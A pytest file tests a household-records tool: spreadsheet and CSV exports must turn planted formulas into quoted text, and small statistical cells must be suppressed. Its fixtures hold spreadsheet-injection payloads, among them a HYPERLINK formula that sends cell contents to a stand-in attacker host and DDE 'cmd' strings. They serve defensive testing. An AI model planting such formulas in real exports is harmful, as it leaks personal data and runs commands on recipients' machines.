"""Attacks on what leaves the archive as a spreadsheet: formulas planted in free text must arrive as text."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner
from conftest import make_archive
from workflow_support import household, read, write

from generator.access.spreadsheet import FORMULA_START
from generator.cli import cli
from generator.site.stats import to_csv
from generator.site.suppress import suppress, suppress_counts

HOSTILE = {
    "工作单位": '=HYPERLINK("http://attacker.invalid/?"&F2&G2&H2,"查看详情")',
    "备注": "@SUM(1+1)*cmd|' /C calc'!A0",
    "其他联系方式": "+86 138 0000 0000",
    "家庭住址": "-2+3+cmd|' /C calc'!A0",
    "七个行动计划其他注明": "#N/A",
}


def run(root, *args):
    result = CliRunner().invoke(cli, [*args, "--root", str(root)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture
def hostile(archive):
    data = household("帮扶中", 1, **HOSTILE)
    data["家庭主要成员"][0]["单位或学校"] = "=1+1"
    write(archive, data)
    write(archive, household("帮扶中", 2))
    run(archive, "validate")
    return archive


def _cells(path):
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _formulas_in_xml(path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        return [name for name in book.namelist() if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)]


@pytest.mark.parametrize("layout", ["一行一户", "一表一户"])
def test_formulas_in_free_text_are_exported_as_text_and_imported_back(hostile, tmp_path, layout):
    book = tmp_path / "上报.xlsx"
    run(hostile, "export-xlsx", "--layout", layout, "--out", str(book))
    cells = _cells(book)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not _formulas_in_xml(book)
    planted = [c for c in cells if c.value in (*HOSTILE.values(), "=1+1")]
    assert {c.value for c in planted} == {*HOSTILE.values(), "=1+1"}
    assert all(c.data_type == "s" and c.quotePrefix for c in planted)
    assert not [
        c.coordinate for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START) and not c.quotePrefix
    ]
    fresh = make_archive(tmp_path / "fresh")
    assert run(fresh, "import-xlsx", str(book)).startswith("新建 2 户")
    back = read(fresh / "records" / "460105" / "4601050001.yaml")
    assert {key: back[key] for key in HOSTILE} == HOSTILE
    assert back["家庭主要成员"][0]["单位或学校"] == "=1+1"
    assert back == read(hostile / "records" / "460105" / "4601050001.yaml")


def test_numbers_stay_numbers(hostile, tmp_path):
    book = tmp_path / "上报.xlsx"
    run(hostile, "export-xlsx", "--out", str(book))
    sheet = openpyxl.load_workbook(book)["困难职工"]
    headers = [c.value for c in sheet[1]]
    people = sheet.cell(2, headers.index("家庭人口") + 1)
    assert people.data_type == "n" and isinstance(people.value, int) and not people.quotePrefix


def test_worksheets_sent_out_for_spot_checks_hold_no_formula(hostile, tmp_path):
    book = tmp_path / "抽查.xlsx"
    run(hostile, "sample", "--region", "4601", "--percent", "100", "--seed", "1", "--out", str(book))
    cells = _cells(book)
    assert not [c.coordinate for c in cells if c.data_type == "f"] and not _formulas_in_xml(book)
    employer = next(c for c in cells if c.value == HOSTILE["工作单位"])
    assert employer.data_type == "s" and employer.quotePrefix


def test_statistics_csv_neutralises_text_and_keeps_numbers():
    table = {
        "labels": ["地区", "户数", "金额（元）"],
        "rows": [
            ['=HYPERLINK("http://attacker.invalid")', 3, "-1,200.50"],
            ["@cmd", -2, "1200"],
            ["\t=1", 0, "+1"],
            ["-1+cmd|' /C calc'!A0", 1, "-3-4"],
        ],
    }
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows[1] == ['\'=HYPERLINK("http://attacker.invalid")', "3", "-1,200.50"]
    assert rows[2] == ["'@cmd", "-2", "1200"]
    assert rows[3] == ["'\t=1", "0", "+1"]
    assert rows[4] == ["'-1+cmd|' /C calc'!A0", "1", "'-3-4"]


# --- small-cell suppression of statistics (what a statistics-only reader is served) ------------------------------


def _table(rows, total=True, base=(100,), units=((1, [2]),)):
    return {"note": "", "rows": rows, "total": total, "base": base, "units": list(units)}


def test_a_small_cell_and_what_is_computed_from_it_are_hidden_with_a_partner():
    rows = [["甲", 40, 120], ["乙", 3, 3800], ["丙", 7, 20], ["丁", 0, 0], ["合计", 50, 3940]]
    shown = suppress(_table(rows))["rows"]
    assert shown == [["甲", 40, 120], ["乙", "*", "*"], ["丙", "*", "*"], ["丁", 0, 0], ["合计", 50, 3940]]


def test_a_lone_hidden_cell_among_zeros_hides_a_zero_too():
    shown = suppress(_table([["甲", 0, 0], ["乙", 2, 5], ["丙", 0, 0]], base=(30,)))["rows"]
    assert [row[1] for row in shown].count("*") == 2


def test_rows_that_add_up_to_nothing_published_hide_only_small_cells():
    shown = suppress(_table([["甲", 40, 1], ["乙", 3, 2], ["丙", 7, 3]], total=False))["rows"]
    assert shown == [["甲", 40, 1], ["乙", "*", "*"], ["丙", 7, 3]]


def test_a_table_about_fewer_than_five_households_shows_no_figure_not_even_zero():
    shown = suppress(_table([["帮扶中", 0, 0], ["已注销", 1, 6]], base=(1,)))
    assert shown["rows"] == [["帮扶中", "*", "*"], ["已注销", "*", "*"]] and "不公开" in shown["note"]


def test_counts_of_one_total_hide_small_ones_in_pairs():
    assert suppress_counts([0, 3, 0, 40, 9, 0]) == [0, "*", 0, 40, "*", 0]
    assert suppress_counts([0, 0, 4]) == ["*", "*", "*"]
    assert suppress_counts([0, 0, 0]) == [0, 0, 0]
